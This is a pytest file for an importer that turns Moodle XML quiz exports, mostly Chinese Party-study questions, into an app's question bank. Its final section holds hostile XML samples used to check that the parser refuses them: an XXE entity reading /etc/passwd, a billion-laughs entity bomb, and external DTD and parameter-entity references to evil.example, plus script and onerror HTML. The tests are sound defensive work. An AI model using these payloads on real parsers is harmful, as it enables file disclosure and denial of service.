"""Moodle XML: every Moodle type mapped or refused with its line, text made plain, and the hostile
XML of security.md §6.3 (#48: external entities, entity bombs) refused before anything is read."""

from decimal import Decimal
from pathlib import Path

import pytest

from learnapp.question_bank import formats
from learnapp.question_bank.formats import moodle_xml
from learnapp.question_bank.formats.moodle_xml import grader_info, stream
from tests.question_bank.import_helpers import has_han, messages

SAMPLE = Path(__file__).parent / "data" / "moodle_sample.xml"
DTD_REFUSED = "declares a document type"


def answer(text, fraction=0, feedback="", fmt="html", extra=""):
    return (
        f'<answer fraction="{fraction}" format="{fmt}"><text><![CDATA[{text}]]></text>'
        f"<feedback><text>{feedback}</text></feedback>{extra}</answer>"
    )


def question(qtype, text="题干", *parts, fmt="html"):
    return (
        f'<question type="{qtype}"><name><text>名</text></name>'
        f'<questiontext format="{fmt}"><text><![CDATA[{text}]]></text></questiontext>'
        + "".join(parts)
        + "</question>"
    )


def quiz(*questions) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n<quiz>\n' + "\n".join(questions) + "\n</quiz>"
    ).encode()


def parse(data: bytes, **kwargs):
    return moodle_xml.parse(data, "t.xml", **kwargs)


def one(*parts, **kwargs):
    result = parse(quiz(question(*parts, **kwargs)))
    assert result.errors == [] and result.skipped == []
    assert len(result.questions) == 1
    return result.questions[0].draft, messages(result.warnings)


def test_the_sample_export_maps_every_supported_type():
    result = parse(SAMPLE.read_bytes())
    assert result.errors == []
    drafts = {q.line: q.draft for q in result.questions}
    assert [(line, d.type) for line, d in drafts.items()] == [
        (15, "single"),
        (57, "multiple"),
        (84, "judge"),
        (110, "fill"),
        (128, "short"),
    ]
    single = drafts[15]
    assert single.stem == "申请入党要有几名正式党员作介绍人？"  # html and CDATA made plain
    assert single.spec == {"options": ["一名", "两名", "三名"], "answer": 1}
    assert single.explanation == "党章第五条：两名正式党员作介绍人。"  # generalfeedback
    assert single.points == Decimal("2.00")  # defaultgrade
    assert single.tags == ["入党", "演练"]
    assert all(d.knowledge_point == ["党章", "第一章 党员"] for d in drafts.values())
    assert drafts[57].spec == {
        "options": ["警告", "严重警告", "罚款", "开除党籍"],
        "answers": [0, 1, 3],
        "partial_credit": 0.5,
    }
    assert drafts[84].spec == {"answer": True}
    assert drafts[110].stem == "党员每年集中学习培训时间一般不少于____学时。"
    assert drafts[110].spec == {"blanks": [["32", "三十二"]], "any_order": False}
    assert drafts[128].spec["key_points"] == ["认真学习", "贯彻执行党的基本路线"]  # graderinfo
    assert single.origin == "t.xml:15"
    skipped = [(p.line, str(p.message)) for p in result.skipped]
    assert skipped == [
        (146, "Not imported: matching questions are not supported by this bank."),
        (160, "Not imported: Moodle “calculated” questions are not supported by this bank."),
    ]
    warned = {(p.line, str(p.message)) for p in result.warnings}
    # Its wrong option weighs -100%: choosing it scores 0, the bank's own rule, so no warning.
    assert not any(line == 57 and "Negative" in text for line, text in warned)
    assert any(line == 15 and "Formatting" in text for line, text in warned)


def test_partial_penalties_in_a_multiple_response_are_reported_minus_100_is_not():
    right = (answer("a", 50), answer("b", 50))
    _draft, warnings = one("multichoice", "Q", "<single>false</single>", *right, answer("c", -50))
    assert warnings == [
        "Negative weights are not kept: any wrong option chosen scores 0 in this bank."
    ]
    _draft, warnings = one("multichoice", "Q", "<single>false</single>", *right, answer("c", -100))
    assert warnings == []


def test_detect_by_extension():
    assert formats.detect("题库.XML", b"<quiz/>") == "xml"


def test_single_choice_needs_exactly_one_full_answer():
    result = parse(
        quiz(
            question(
                "multichoice", "Q", "<single>true</single>", answer("a", 100), answer("b", 100)
            )
        )
    )
    assert result.questions == [] and result.errors[0].line == 3
    assert "exactly one answer with fraction 100; 2 have it" in messages(result.errors)[0]


def test_partial_credit_weights_become_the_banks_half_marks_with_a_warning():
    draft, warnings = one(
        "multichoice",
        "Q",
        "<single>false</single>",
        answer("a", 50),
        answer("b", 30),
        answer("c", 20),
        answer("d", 0),
    )
    assert draft.type == "multiple" and draft.spec["answers"] == [0, 1, 2]
    assert any("Unequal weights become equal" in w for w in warnings)


def test_multiple_response_weights_must_add_up_and_fractions_be_percentages():
    short = parse(
        quiz(
            question("multichoice", "Q", "<single>false</single>", answer("a", 50), answer("b", 20))
        )
    )
    assert "add up to 70%" in messages(short.errors)[0]
    bad = parse(quiz(question("multichoice", "Q", answer("a", "150"), answer("b", "nan"))))
    assert messages(bad.errors) == ["The fraction “150” is not a percentage from -100 to 100."]


def test_one_positive_answer_in_a_multiple_response_is_single_choice():
    draft, warnings = one(
        "multichoice", "Q", "<single>false</single>", answer("a", 100), answer("b", -50)
    )
    assert draft.type == "single" and draft.spec["answer"] == 0
    assert (
        "Only one answer has a positive weight: imported as a single-choice question." in warnings
    )


@pytest.mark.parametrize(("right", "expected"), [("false", False), ("TRUE", True)])
def test_true_false(right, expected):
    wrong = "true" if right == "false" else "false"
    draft, warnings = one(
        "truefalse", "对吗", answer(right, 100, "对了"), answer(wrong, 0), fmt="moodle_auto_format"
    )
    assert draft.type == "judge" and draft.spec == {"answer": expected}
    assert (
        "Feedback on answers is not kept; the general feedback becomes the explanation." in warnings
    )


def test_true_false_without_a_right_answer_is_an_error():
    result = parse(quiz(question("truefalse", "对吗", answer("true", 0), answer("false", 0))))
    assert (
        result.questions == []
        and "needs one answer “true” or “false”" in messages(result.errors)[0]
    )


def test_short_answer_without_a_blank_gets_one_at_the_end_and_drops_wildcards():
    draft, warnings = one(
        "shortanswer",
        "首都是哪里？",
        "<usecase>1</usecase>",
        answer("北京", 100),
        answer("Pek*", 100),
        answer("*", 0),
    )
    assert draft.type == "fill" and draft.stem == "首都是哪里？ ____"
    assert draft.spec["blanks"] == [["北京"]]
    assert any("marks no blank" in w for w in warnings)
    assert any("wildcard" in w and "Pek*" in w for w in warnings)
    assert any("case sensitive" in w for w in warnings)
    assert not any(has_han(w) for w in warnings if "Pek*" not in w)


def test_short_answer_with_two_blanks_is_skipped_and_without_a_right_answer_is_an_error():
    two = parse(quiz(question("shortanswer", "___ 和 ___", answer("甲", 100))))
    assert two.questions == [] and "marks 2 blanks" in messages(two.skipped)[0]
    none_right = parse(quiz(question("shortanswer", "Q ____", answer("甲", 50))))
    assert messages(none_right.errors) == ["No answer has fraction 100, so none is fully right."]


def test_numerical_exact_answer_is_fill_and_a_tolerance_is_skipped():
    draft, warnings = one(
        "numerical",
        "党员的预备期为几个月？",
        answer("12", 100, extra="<tolerance>0</tolerance>"),
        answer("*", 0),
        "<units><unit><multiplier>1</multiplier><unit_name>月</unit_name></unit></units>",
    )
    assert draft.type == "fill" and draft.spec["blanks"] == [["12"]]
    assert "Units are not kept: the answer is the number alone." in warnings
    tolerant = parse(
        quiz(question("numerical", "Q", answer("3.14", 100, extra="<tolerance>0.01</tolerance>")))
    )
    assert tolerant.questions == [] and "has a tolerance" in messages(tolerant.skipped)[0]
    wrong = parse(quiz(question("numerical", "Q", answer("abc", 100))))
    assert messages(wrong.errors) == ["“abc” is not a number."]


def test_essay_reference_from_general_feedback_and_without_one_skipped():
    draft, _warnings = one(
        "essay", "谈谈体会", "<generalfeedback><text>要点一\n要点二</text></generalfeedback>"
    )
    assert draft.type == "short" and draft.spec["key_points"] == ["要点一", "要点二"]
    bare = parse(quiz(question("essay", "谈谈体会")))
    assert bare.questions == [] and "information for graders" in messages(bare.skipped)[0]


def test_essay_with_information_for_graders_keeps_the_general_feedback_as_explanation():
    draft, warnings = one(
        "essay",
        "谈谈体会",
        "<generalfeedback><text>解析</text></generalfeedback>",
        '<graderinfo format="html"><text><![CDATA[<p>要点一</p><p>要点二</p>]]></text></graderinfo>',
    )
    assert draft.spec["key_points"] == ["要点一", "要点二"]
    assert draft.explanation == "解析" and warnings == []


def test_information_for_graders_as_the_bank_writes_it_gives_back_its_key_points():
    written = grader_info.write("参考 <答案> &amp;\n第二行", ["甲 & 乙", "丙\n丁"])
    graderinfo = f'<graderinfo format="html"><text><![CDATA[{written}]]></text></graderinfo>'
    draft, warnings = one("essay", "Q", graderinfo)
    assert draft.spec == {
        "reference": "参考 <答案> &amp;\n第二行",
        "key_points": ["甲 & 乙", "丙\n丁"],
    }
    assert warnings == []  # its markup is the bank's own, not formatting lost
    edited = graderinfo.replace("<ol", "<ul").replace("</ol>", "</ul>")
    draft, warnings = one("essay", "Q", edited)
    # Markup the bank did not write is ordinary text: the reference, one key point a line.
    assert "参考 <答案> &amp;" in draft.spec["reference"]
    assert draft.spec["key_points"][:2] == ["Reference answer", "参考 <答案> &amp;"]
    assert any("Formatting" in w for w in warnings)


@pytest.mark.parametrize(
    ("written", "share", "warned"), [("0", 0.0, False), ("12.5%", 0.125, False), ("abc", 0.5, True)]
)
def test_partialcredit_sets_the_share_of_a_right_subset(written, share, warned):
    draft, warnings = one(
        "multichoice",
        "Q",
        "<single>false</single>",
        f"<partialcredit>{written}</partialcredit>",
        answer("a", 50),
        answer("b", 50),
        answer("c", -100),
    )
    assert draft.spec["partial_credit"] == share
    assert any("partial credit “abc” is not kept" in w for w in warnings) is warned


def test_a_name_with_angle_brackets_is_plain_text_not_lost_formatting():
    data = quiz(
        '<question type="truefalse"><name><text>&lt;b&gt;党章&lt;/b&gt; 第一条</text></name>'
        '<questiontext format="plain_text"><text>a &lt;b&gt; c</text></questiontext>'
        + answer("true", 100)
        + "</question>"
    )
    result = parse(data)
    assert result.errors == [] and messages(result.warnings) == []
    assert result.questions[0].draft.stem == "a <b> c"


@pytest.mark.parametrize(
    "qtype", ["description", "matching", "multianswer", "ddwtos", "randomsamatch"]
)
def test_types_the_bank_cannot_hold_are_skipped_with_a_reason(qtype):
    result = parse(quiz(question(qtype, "Q"), question("truefalse", "对吗", answer("true", 100))))
    assert len(result.questions) == 1 and result.errors == []
    assert [p.line for p in result.skipped] == [3]
    assert "Not imported" in messages(result.skipped)[0]


def test_a_question_without_a_type_is_an_error():
    result = parse(quiz("<question><questiontext><text>Q</text></questiontext></question>"))
    assert messages(result.errors) == ["A <question> element needs a type attribute."]


def test_html_is_sanitised_to_plain_text_and_images_are_dropped_never_written(
    tmp_path, monkeypatch
):
    monkeypatch.chdir(tmp_path)
    stem = '<p>题<script>alert(1)</script><img src="@@PLUGINFILE@@/a.png" onerror="alert(1)">干 &lt;b&gt;</p>'
    file = '<file name="a.png" path="/" encoding="base64">iVBORw0KGgo=</file>'
    result = parse(
        quiz(
            '<question type="truefalse"><questiontext format="html">'
            f"<text><![CDATA[{stem}]]></text>{file}</questiontext>"
            + answer("true", 100)
            + "</question>"
        )
    )
    draft = result.questions[0].draft
    assert draft.stem == "题干 <b>"  # shown escaped by the templates
    assert "Images and attached files are not imported: the bank stores text only." in messages(
        result.warnings
    )
    assert list(tmp_path.iterdir()) == []


def test_plain_text_format_is_kept_as_written():
    draft, warnings = one("truefalse", "a <b> & c", answer("true", 100), fmt="plain_text")
    assert draft.stem == "a <b> & c" and warnings == []


@pytest.mark.parametrize("grade", ["250", "0", "0.001", "-1", "nan", "inf", "1e999", "abc"])
def test_defaultgrade_out_of_range_gives_the_usual_points(grade):
    draft, warnings = one(
        "truefalse", "Q", f"<defaultgrade>{grade}</defaultgrade>", answer("true", 100)
    )
    assert draft.points == Decimal("1") and any(f"default mark “{grade}”" in w for w in warnings)


def test_defaultgrade_is_rounded_to_cents():
    draft, warnings = one(
        "essay",
        "Q",
        "<defaultgrade>2.345</defaultgrade>",
        "<graderinfo><text>R</text></graderinfo>",
    )
    assert draft.points == Decimal("2.35") and warnings == []


def test_category_paths_become_knowledge_points_never_file_paths():
    data = quiz(
        '<question type="category"><category><text>$course$/top/../党章/./总纲</text></category></question>',
        question("truefalse", "Q", answer("true", 100)),
    )
    result = parse(data, default_kp=["默认"])
    assert result.questions[0].draft.knowledge_point == ["党章", "总纲"]
    assert len(result.warnings) == 2


def test_too_many_tags_keep_the_first_ten():
    tags = "<tags>" + "".join(f"<tag><text>t{n}</text></tag>" for n in range(12)) + "</tags>"
    draft, warnings = one("truefalse", "Q", tags, answer("true", 100))
    assert len(draft.tags) == 10 and "Only the first 10 tags are kept." in warnings


def test_an_empty_quiz_has_no_questions():
    assert messages(parse(b"<quiz>\n</quiz>").errors) == ["The file has no questions."]


# Hostile and malformed XML: refused as a whole, with a message, before any question is kept.

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE quiz [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<quiz><question type="truefalse"><questiontext><text>&xxe;</text></questiontext>
<answer fraction="100"><text>true</text></answer></question></quiz>"""
BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
    + b"".join(
        f'<!ENTITY lol{n} "{("&lol" + str(n - 1 if n > 1 else "") + ";") * 10}">\n'.encode()
        for n in range(1, 10)
    )
    + b']>\n<quiz><question type="truefalse"><questiontext><text>&lol9;</text></questiontext>'
    + b'<answer fraction="100"><text>true</text></answer></question></quiz>'
)


@pytest.mark.parametrize(
    "data",
    [
        XXE,
        BILLION_LAUGHS,
        b'<!DOCTYPE quiz SYSTEM "http://evil.example/x.dtd"><quiz/>',
        b'<!DOCTYPE quiz [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><quiz/>',
        b"<!DOCTYPE quiz><quiz/>",
    ],
    ids=["xxe", "billion-laughs", "external-dtd", "parameter-entity", "bare-doctype"],
)
def test_document_types_and_entities_are_refused(data):
    result = parse(data)
    assert result.questions == [] and len(result.errors) == 1
    assert DTD_REFUSED in messages(result.errors)[0]
    assert "root:" not in str(result)


def test_undeclared_entities_and_broken_xml_name_their_line():
    undeclared = parse(
        quiz(question("truefalse", "Q", answer("true", 100)).replace("Q]]>", "]]>&xxe;"))
    )
    assert (
        undeclared.errors[0].line == 3
        and "an entity XML does not define, such as &nbsp;" in (messages(undeclared.errors)[0])
    )
    broken = parse(b"<quiz>\n<question type='truefalse'>\n<text>Q</questiontext>\n</quiz>")
    assert broken.errors[0].line == 3
    assert messages(broken.errors) == [
        "The file is not well-formed XML: a closing tag that does not match its opening tag"
        " (line 3, column 10)."
    ]


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"<quiz><question>", "the file ends before the XML is complete"),
        (b"<quiz>a < b</quiz>", "a character not allowed here (write &lt; for < and &amp; for &)"),
        (b"<quiz></quiz>junk", "content after the closing </quiz>"),
    ],
)
def test_broken_xml_gives_its_reason_in_words_not_expats_english(ctx, data, reason):
    assert f": {reason} (line 1," in messages(parse(data).errors)[0]


def test_depth_and_size_of_a_question_are_bounded():
    deep = parse(b"<quiz>" + b"<a>" * 500 + b"</a>" * 500 + b"</quiz>")
    assert messages(deep.errors) == [
        f"The elements are nested more than {stream.MAX_DEPTH} levels deep."
    ]
    many = quiz(question("multichoice", "Q", *[answer(str(n)) for n in range(3000)]))
    assert messages(parse(many).errors) == [
        f"A question has more than {stream.MAX_ELEMENTS} elements."
    ]


def test_other_documents_and_encodings_are_refused():
    assert "not <quiz>" in messages(parse(b"<html><body/></html>").errors)[0]
    gbk = '<?xml version="1.0" encoding="GBK"?><quiz/>'.encode("gbk")
    assert "save it as UTF-8" in messages(parse(gbk).errors)[0]
    utf16 = (
        quiz(question("truefalse", "对吗", answer("true", 100))).decode().replace("UTF-8", "UTF-16")
    )
    assert parse(utf16.encode("utf-16")).questions[0].draft.stem == "对吗"
